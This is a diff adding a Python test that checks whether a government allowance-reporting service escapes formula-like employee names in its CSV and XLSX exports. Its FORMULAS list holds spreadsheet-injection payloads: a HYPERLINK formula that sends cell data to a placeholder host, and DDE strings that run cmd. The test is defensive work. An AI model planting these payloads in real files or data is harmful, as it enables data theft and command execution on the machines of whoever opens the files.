@@ -328,3 +328,92 @@ def test_a_run_out_of_time_stops_cleanly(api: Api) -> None:
         status["runs"][0]["state"] == "failed" and status["runs"][0]["error_code"] == "out_of_time"
     )
     assert status["latest_version"] is None
+
+
+# ---------------------------------------------------------------- values a spreadsheet would run
+FORMULAS = (
+    '=HYPERLINK("http://x.invalid/?d="&A1,"Klik di sini")',
+    "+62-812-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+)
+
+
+def _xlsx_cells(body: bytes) -> tuple[set[str], list[str]]:
+    """The text cells' values (shared strings) and every formula of a workbook."""
+    import re
+    import zipfile
+    from xml.etree import ElementTree
+
+    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        strings = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314 - ours
+        texts = {"".join(t.text or "" for t in si.iter(f"{main}t")) for si in strings}
+        formulas = []
+        for name in archive.namelist():
+            if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
+                sheet = ElementTree.fromstring(archive.read(name))  # noqa: S314 - ours
+                formulas += [f.text or "" for f in sheet.iter(f"{main}f")]
+                inline = [c for c in sheet.iter(f"{main}c") if c.get("t") in {"str", "inlineStr"}]
+                assert not inline, "text is written as shared strings only"
+    return texts, formulas
+
+
+def test_names_a_spreadsheet_would_run_are_kept_and_exported_as_text(
+    api: Api, local_env: LocalEnvironment
+) -> None:
+    """Employees imported by CSV with names that start like formulas: the records keep them as
+    entered, and every file of the month's report (CSV, XLSX, the changes after a rename)
+    writes them so that a spreadsheet shows text and runs nothing."""
+    from dispositions_support import fresh_nip
+
+    site = Site(api, unit_of(api, "kadis.kominfo"))
+    code = site.unit["code"]
+    people = {fresh_nip(): name for name in FORMULAS}
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(["nip", "name", "unit_code", "username", "tpp_amount"])
+    for n, (nip, name) in enumerate(people.items()):
+        writer.writerow([nip, name, code, f"rumus.{nip[-6:]}.{n}", "1.000.000"])
+    answer = api.post(
+        "/employees/import",
+        user="admin",
+        body=out.getvalue().encode(),
+        headers={"content-type": "text/csv"},
+    )
+    assert answer.status == 200, answer.body
+    for nip, name in people.items():
+        assert api.get(f"/employees/{nip}", user="admin").json["name"] == name  # as entered
+
+    runs = ReportRuns(local_env)
+
+    def report() -> dict[str, bytes]:
+        body = {"month": "2024-07", "unit_id": site.unit_id}
+        assert api.post("/tpp/reports", user="tpp.bkpsdm", json_body=body).status == 202
+        assert runs.drain() >= 1
+        query = f"?unit={site.unit_id}"
+        links = api.get(f"/tpp/reports/2024-07/files{query}", user="tpp.bkpsdm")
+        assert links.status == 200, links.body
+        return {link["name"]: httpx.get(link["url"]).content for link in links.json}
+
+    files = report()
+    csvs = [name for name in files if name.endswith(".csv")]
+    assert {"tpp-2024-07.csv", f"units/{code}.csv"} <= set(csvs), sorted(files)
+    for name in csvs:
+        rows = _rows(files[name])
+        for nip, person in people.items():
+            assert rows[nip]["Nama"] == "'" + person, (name, rows[nip]["Nama"])
+    workbooks = [name for name in files if name.endswith(".xlsx")]
+    assert {"tpp-2024-07.xlsx", f"units/{code}.xlsx"} <= set(workbooks), sorted(files)
+    for name in workbooks:
+        texts, formulas = _xlsx_cells(files[name])
+        assert set(people.values()) <= texts, name  # verbatim, as text cells
+        assert formulas and all(f.startswith("SUM(") for f in formulas), (name, formulas)
+    assert json.loads(files["tpp-2024-07.json"])  # JSON carries the data as it is
+
+    # A rename makes a new version; its list of changes names him, as text too.
+    (renamed, *_) = people
+    patched = api.patch(f"/employees/{renamed}", user="admin", json_body={"name": "=1+1 Andi Baso"})
+    assert patched.status == 200, patched.body
+    changes = _rows(report()["perubahan.csv"])
+    assert changes[renamed]["Nama"] == "'=1+1 Andi Baso"
